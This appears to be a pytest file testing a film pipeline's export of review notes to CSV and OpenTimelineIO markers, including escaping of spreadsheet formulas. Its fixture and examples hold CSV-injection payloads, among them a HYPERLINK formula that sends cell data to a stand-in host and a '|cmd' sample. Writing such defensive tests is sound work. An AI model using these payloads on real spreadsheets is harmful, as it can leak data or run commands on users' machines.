"""Notes leave the house as a table that no spreadsheet runs, and as markers at the frames that they were written on."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import opentimelineio as otio
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from small_film import SmallFilm

from film_pipeline.core.spreadsheets import harmless
from film_pipeline.departments.film import Film
from film_pipeline.noting import COLUMNS, notes_csv, notes_of, notes_otio
from film_pipeline.stores.ledger.notes import Note

ONE, TWO = "SC010_SH010", "SC010_SH020"
FORMULA = '=HYPERLINK("http://elsewhere/?"&A1)'


@pytest.fixture
def noted(new_film: SmallFilm) -> Iterator[Film]:
    """Five notes: on a frame, on a take, an answer, a drawing in the handles, and one on a shot that is gone."""
    with Film(new_film.root) as film:
        add = film.ledger.notes.add
        add(Note(TWO, "ada", "The hand\nmelts.", "review", take=2, frame=1003))
        first = add(Note(ONE, "bea", FORMULA, "discord", frame=1004))
        add(Note(ONE, "ada", "Colder, all of it.", "cli", reply_to=first))
        add(Note(ONE, "ada", "", "review", frame=1001, drawing={"strokes": []}))
        add(Note("SC010_SH099", "ada", "Where did it go?", "cli", frame=1001))
        yield film


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read(text: str) -> otio.schema.Timeline:
    return otio.adapters.read_from_string(text, adapter_name="otio_json")


def marks(clip: otio.schema.Clip) -> list[tuple[int, int, str]]:
    return [
        (mark.marked_range.start_time.to_frames(), mark.marked_range.duration.to_frames(), mark.name)
        for mark in clip.markers
    ]


def test_the_table_has_every_note_in_the_order_of_the_film(noted: Film) -> None:
    rows = table(notes_csv(notes_of(noted)))
    assert tuple(rows[0]) == COLUMNS
    assert [(row["shot"], row["frame"]) for row in rows] == [
        (ONE, "1004"),
        (ONE, ""),
        (ONE, "1001"),
        (TWO, "1003"),
        ("SC010_SH099", "1001"),
    ]
    assert rows[3] | {"at": ""} == {
        "number": "1",
        "at": "",
        "shot": TWO,
        "take": "2",
        "frame": "1003",
        "author": "ada",
        "text": "The hand\nmelts.",
        "answers": "",
        "drawing": "",
        "via": "review",
    }
    assert (rows[1]["answers"], rows[2]["drawing"]) == (rows[0]["number"], "yes")
    assert [row["shot"] for row in table(notes_csv(notes_of(noted, TWO)))] == [TWO]


def test_a_formula_in_a_note_is_text_in_the_table(noted: Film) -> None:
    rows = table(notes_csv(notes_of(noted, ONE)))
    assert rows[0]["text"] == f"'{FORMULA}"


@given(st.text(max_size=30))
@example("=1+1")
@example(" =1+1")
@example("\ufeff=1+1")
@example("\uff1d1")
@example("\t=1")
@example("-1+1|cmd")
@example("@SUM(A1)")
@example("-Infinity")
def test_whatever_is_written_a_spreadsheet_runs_none_of_it(text: str) -> None:
    safe = harmless(text)
    assert safe in (text, f"'{text}")
    seen = safe.lstrip().lstrip("\u200b\ufeff").lstrip()
    assert not seen[:1] or seen[0] not in "=+-@\uff1d\uff0b\uff0d\uff20" or safe.replace(".", "", 1)[1:].isdecimal()


@pytest.mark.parametrize("number", ["1004", "-0.100000", "+3", "0"])
def test_numbers_stay_numbers(number: str) -> None:
    assert harmless(number) == number


def test_markers_stand_at_their_frames_on_the_clips_of_the_cut(noted: Film) -> None:
    timeline = read(notes_otio(noted, notes_of(noted)))
    one, two = timeline.tracks[0]
    assert (one.name, two.name) == (ONE, TWO)
    source = one.source_range
    assert marks(one) == [
        (1004, 1, f"bea: {FORMULA}"),
        (source.start_time.to_frames(), source.duration.to_frames(), "ada: Colder, all of it."),
        (1001, 1, "ada: a drawing"),
    ]
    assert marks(two) == [(1003, 1, "ada: The hand melts.")]
    assert two.markers[0].comment == "The hand\nmelts."
    assert two.markers[0].metadata["film_pipeline"]["take"] == 2
    assert list(one.markers[2].metadata["film_pipeline"]["drawing"]) == ["strokes"]


def test_a_note_on_a_shot_that_the_cut_does_not_play_is_not_lost(noted: Film) -> None:
    timeline = read(notes_otio(noted, notes_of(noted)))
    assert [mark.name for mark in timeline.tracks.markers] == ["SC010_SH099, not in the cut: ada: Where did it go?"]


def test_the_notes_of_a_shot_stand_on_all_of_it_with_its_handles(noted: Film) -> None:
    timeline = read(notes_otio(noted, notes_of(noted, ONE), ONE))
    [clip] = timeline.tracks[0]
    assert (clip.source_range.start_time.to_frames(), clip.source_range.duration.to_frames()) == (1001, 8)
    assert [mark[0] for mark in marks(clip)] == [1004, 1001, 1001]


def test_a_film_without_notes_is_a_heading_and_a_bare_cut(new_film: SmallFilm, tmp_path: Path) -> None:
    with Film(new_film.root) as film:
        assert table(notes_csv(notes_of(film))) == []
        timeline = read(notes_otio(film, []))
    assert [len(clip.markers) for clip in timeline.tracks[0]] == [0, 0]
